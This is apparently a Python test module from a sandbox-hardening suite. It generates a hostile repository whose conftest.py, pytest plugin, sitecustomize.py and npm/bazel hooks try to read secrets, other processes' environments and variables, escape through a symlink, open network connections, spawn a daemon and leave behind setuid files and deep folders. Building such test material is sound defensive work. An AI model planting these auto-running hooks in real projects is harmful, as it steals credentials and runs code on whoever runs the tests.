"""A repository whose test run is the attack: conftest, plugins and settings that run before any test does."""

from pathlib import Path

from tests.hostile import careless
from tests.hostile.tricks import Trick, trips
from tests.hostile.world import VARIABLE, World
from tests.repositories import repository

CONFTEST = """
import glob, os, socket, subprocess, sys

WORLD = {world!r}
SECRET = os.path.join(WORLD, "outside", "secret.txt")


def mark(name):
    open(os.path.join(WORLD, "marks", name), "w").close()


def steal(path):
    with open(path, "rb") as file:
        return file.read().decode(errors="replace")


def daemon():
    if os.fork():
        return
    try:
        os.setsid()
        if not os.fork():
            mark("daemon")
    finally:
        os._exit(0)


def overwrite():
    with open(os.path.join(WORLD, "outside", "left behind"), "w") as file:
        file.write("x")


def processes():
    return [steal(path) for path in glob.glob("/proc/[0-9]*/environ")]


def connect():
    socket.create_connection(("127.0.0.1", {port}), 1).close()


def datagram():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(("192.0.2.1", 53))
    return sock.send(b"x")


def link():
    os.symlink(SECRET, "stolen.txt")
    return steal("stolen.txt")


ATTEMPTS = {{
    "mark": lambda: mark("conftest"),
    "overwrite": overwrite,
    "secret": lambda: steal(SECRET),
    "link": link,
    "private": lambda: subprocess.check_output(["git", "-C", os.path.join(WORLD, "private"), "show", "HEAD"]),
    "variable": lambda: os.environ[{variable!r}],
    "processes": lambda: processes(),
    "connect": connect,
    "datagram": datagram,
    "state": lambda: [steal(path) for path in glob.glob(WORLD + "/../**/*", recursive=True) if os.path.isfile(path)],
    "daemon": daemon,
}}
for name, attempt in ATTEMPTS.items():
    try:
        print("ATTEMPT", name, attempt(), file=sys.stderr)
    except BaseException as error:
        print("ATTEMPT", name, "failed:", type(error).__name__, error, file=sys.stderr)
"""

LEFT_BEHIND = '''
import os

def test_leaves_things_behind():
    """A pipe under the report's name, a program that runs as its owner, folders deeper than any path, rights taken away."""
    os.mkfifo("pipe")
    os.mkdir("shut")
    open("shut/file", "w").close()
    open("program", "w").close()
    os.chmod("program", 0o4755)
    here = os.getcwd()
    for _ in range(1200):
        os.mkdir("deep")
        os.chdir("deep")
    os.chdir(here)
    os.chmod("shut", 0)
'''


def files(world: World) -> dict[str, bytes]:
    """Files that attack whoever runs the tests."""
    conftest = CONFTEST.format(world=str(world.folder), port=world.port, variable=VARIABLE)
    plugin = f"try:\n    open({str(world.marks / 'plugin')!r}, 'w').close()\nexcept OSError:\n    pass\n"
    return {
        "conftest.py": conftest.encode(),
        "evil_plugin.py": plugin.encode(),
        "sitecustomize.py": plugin.replace("plugin", "sitecustomize").encode(),
        "pyproject.toml": b'[tool.pytest.ini_options]\naddopts = "-p evil_plugin"\npythonpath = ["."]\n',
        "tests/test_ordinary.py": b"def test_ordinary():\n    assert True\n",
        ".bazelrc": b"run --run_under=/bin/false\n",
        "package.json": f'{{"scripts": {{"test": "touch {world.marks}/npm"}}}}'.encode(),
    }


def _running(world: World, path: Path) -> Path:
    return repository(path, files(world))


RUNNING = Trick(
    "running", _running, careless.check, trips("conftest", "plugin", "connected", "leaked", "written outside", "daemon")
)
